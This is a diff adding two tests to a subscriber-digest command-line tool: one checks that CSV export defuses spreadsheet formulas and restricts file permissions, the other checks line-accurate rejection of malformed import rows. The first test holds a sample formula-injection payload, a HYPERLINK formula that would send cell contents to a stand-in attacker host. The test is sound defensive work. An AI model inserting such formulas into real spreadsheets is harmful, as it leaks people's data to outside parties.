@@ -191,3 +191,55 @@ def test_invite_sends_each_pending_subscriber_one_confirmation(workdir: Path) ->
             digest(workdir, "subscribers", "show", "new@example.ru", "--json", env=env).stdout
         )
         assert listed["status"] == "pending" and listed["invited_at"]
+
+
+def test_export_neutralises_formulas_and_writes_dash_to_stdout(workdir: Path) -> None:
+    """Issue 12.9: a name like =HYPERLINK(…) must not run as a formula when the
+    export is opened in a spreadsheet; `--out -` is standard output, not a file."""
+    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    evil = '=HYPERLINK("https://evil.example/?d="&A2,"Открыть")'
+    code, out, err = run(workdir, "add", "vera@example.ru", "--name", evil, "--no-invite")
+    assert code == 0, err
+    code, out, err = run(workdir, "export", "vera@example.ru", "--out", "-")
+    assert code == 0, err
+    assert not (workdir / "-").exists()
+    row = next(csv.DictReader(io.StringIO(out)))
+    assert row["name"] == "'" + evil  # shown as text, never evaluated
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values() if v)
+    target = workdir / "vera.csv"
+    code, out, err = run(workdir, "export", "vera@example.ru", "--out", str(target))
+    assert code == 0 and target.stat().st_mode & 0o777 == 0o600  # personal data
+
+
+LONG_LOCAL = b"x" * 70 + b"@example.ru,Long,\r\n"
+HUGE_FIELD = b"four@example.ru," + b"N" * 200_000 + b",\r\n"
+
+
+def test_a_hostile_csv_loses_only_its_bad_lines_each_named_by_its_true_number(
+    workdir: Path,
+) -> None:
+    """Issue 12.5/9: an undecodable byte, an over-long field, a 70-octet local part,
+    a bad zone and a quoted field spanning lines: each bad line is reported with
+    the number an editor sees, and every good line is loaded."""
+    assert digest(workdir, "db", "upgrade", env=base_env(workdir)).returncode == 0
+    path = workdir / "hostile.csv"
+    path.write_bytes(
+        b"email,name,timezone\r\n"  # line 1
+        b"one@example.ru,One,\r\n"  # 2
+        b'two@example.ru,"Two\r\nlines",\r\n'  # 3-4: one record over two lines
+        b"bad\xff\xfe@example.ru,Bad,\r\n"  # 5: not UTF-8
+        b"three@example.ru,Three,\r\n"  # 6
+        + LONG_LOCAL  # 7: local part over 64 octets (RFC 5321)
+        + HUGE_FIELD  # 8: a field over the limit
+        + b"five@example.ru,Five,Europe\r\n"  # 9: a folder of the zone database
+        b"six@example.ru,Six,Asia/Vladivostok\r\n"  # 10
+    )
+    code, out, err = run(workdir, "import", str(path))
+    assert code == 3, err
+    assert "Traceback" not in err
+    for line in (5, 7, 8, 9):
+        assert f"hostile.csv:{line}:" in err, (line, err)
+    assert "rejected 4" in out
+    code, out, _ = run(workdir, "list", "--json")
+    emails = {p["email"] for p in json.loads(out)}
+    assert emails == {f"{n}@example.ru" for n in ("one", "two", "three", "six")}
